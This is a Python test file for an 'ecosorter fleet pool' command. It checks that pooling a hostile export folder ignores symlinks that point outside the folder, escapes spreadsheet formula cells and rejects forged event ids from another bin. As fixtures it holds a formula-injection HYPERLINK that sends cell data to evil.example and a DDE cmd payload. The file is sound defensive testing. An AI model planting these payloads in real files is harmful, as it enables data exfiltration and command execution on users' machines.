"""`ecosorter fleet pool` fed a hostile export folder (a USB stick from a bin nobody watched): links out of
the folder and cells a spreadsheet would run. Real files, real JPEGs, the real command."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

from ecosorter.edge.record.export import CSV_COLUMNS
from tests.conftest import SAMPLES

ECOSORTER = [sys.executable, "-m", "ecosorter.edge.cli"]
JPEG = SAMPLES / "01-kaca-trashnet-glass1.jpg"


def export_folder(root: Path, rows: list[dict]) -> Path:
    exp = root / "stick"
    exp.mkdir(parents=True)
    with open(exp / "labels.csv", "w", newline="") as f:
        w = csv.DictWriter(f, CSV_COLUMNS)
        w.writeheader()
        for r in rows:
            w.writerow({c: r.get(c, "") for c in CSV_COLUMNS})
    return exp


def pool(out: Path, exp: Path) -> subprocess.CompletedProcess:
    return subprocess.run([*ECOSORTER, "fleet", "pool", str(out), str(exp)], capture_output=True, text=True,
                          timeout=60)


def test_a_class_folder_linked_out_of_the_export_is_not_followed(tmp_path):
    private = tmp_path / "home" / "owner"  # photos the stick's author wants copied into the owner's pool
    private.mkdir(parents=True)
    shutil.copyfile(JPEG, private / "passport.jpg")
    exp = export_folder(tmp_path, [
        {"photo": "kaca/passport.jpg", "id": "a" * 32, "bin_id": "bin7", "true_label": "kaca"},
        {"photo": "logam/ok.jpg", "id": "b" * 32, "bin_id": "bin7", "true_label": "logam"}])
    os.symlink(private, exp / "kaca")
    (exp / "logam").mkdir()
    shutil.copyfile(JPEG, exp / "logam" / "ok.jpg")
    r = pool(tmp_path / "out", exp)
    assert r.returncode == 0, r.stderr
    assert not (tmp_path / "out" / "kaca" / "bin7-passport.jpg").exists()
    assert (tmp_path / "out" / "logam" / "bin7-ok.jpg").is_file()
    assert "passport.jpg" in r.stderr and "outside" in r.stderr  # named, with why


def test_pooled_labels_csv_escapes_cells_a_spreadsheet_would_run(tmp_path):
    exp = export_folder(tmp_path, [{"photo": "kaca/x.jpg", "id": "c" * 32, "bin_id": "bin7", "true_label": "kaca",
                                    "labeled_by": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
                                    "model_sha256": "+cmd|' /C calc'!A0", "confidence": "0.9"}])
    (exp / "kaca").mkdir()
    shutil.copyfile(JPEG, exp / "kaca" / "x.jpg")
    r = pool(tmp_path / "out", exp)
    assert r.returncode == 0, r.stderr
    row = next(csv.DictReader(open(tmp_path / "out" / "labels.csv", newline="")))  # noqa: SIM115
    assert row["labeled_by"].startswith("'=HYPERLINK") and row["model_sha256"].startswith("'+cmd")
    assert row["confidence"] == "0.9" and row["true_label"] == "kaca"
    # pooling the pool's own output again keeps one quote, not two
    r = pool(tmp_path / "out2", tmp_path / "out")
    assert r.returncode == 0, r.stderr
    row = next(csv.DictReader(open(tmp_path / "out2" / "labels.csv", newline="")))  # noqa: SIM115
    assert row["labeled_by"].startswith("'=HYPERLINK") and not row["labeled_by"].startswith("''")


def test_an_id_seen_from_one_bin_cannot_be_taken_over_by_another(tmp_path):
    """Event ids are unique across bins: the same id from another bin is a forgery (or a copy), and must
    not replace the first bin's photo and label, labelled or not."""
    real = export_folder(tmp_path / "real", [{"photo": "_unlabeled/a.jpg", "id": "d" * 32, "bin_id": "bin7"}])
    (real / "_unlabeled").mkdir()
    shutil.copyfile(JPEG, real / "_unlabeled" / "a.jpg")
    forged = export_folder(tmp_path / "forged", [{"photo": "logam/b.jpg", "id": "d" * 32, "bin_id": "bin9",
                                                  "true_label": "logam"}])
    (forged / "logam").mkdir()
    shutil.copyfile(SAMPLES / "05-logam-trashnet-metal1.jpg" if (SAMPLES / "05-logam-trashnet-metal1.jpg").exists()
                    else JPEG, forged / "logam" / "b.jpg")
    out = tmp_path / "out"
    assert pool(out, real).returncode == 0
    r = pool(out, forged)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(open(out / "labels.csv", newline="")))  # noqa: SIM115
    assert [(x["id"], x["bin_id"], x["photo"]) for x in rows] == [("d" * 32, "bin7", "_unlabeled/bin7-a.jpg")]
    assert (out / "_unlabeled" / "bin7-a.jpg").is_file() and not (out / "logam").exists()
    assert "bin9" in r.stderr and "bin7" in r.stderr
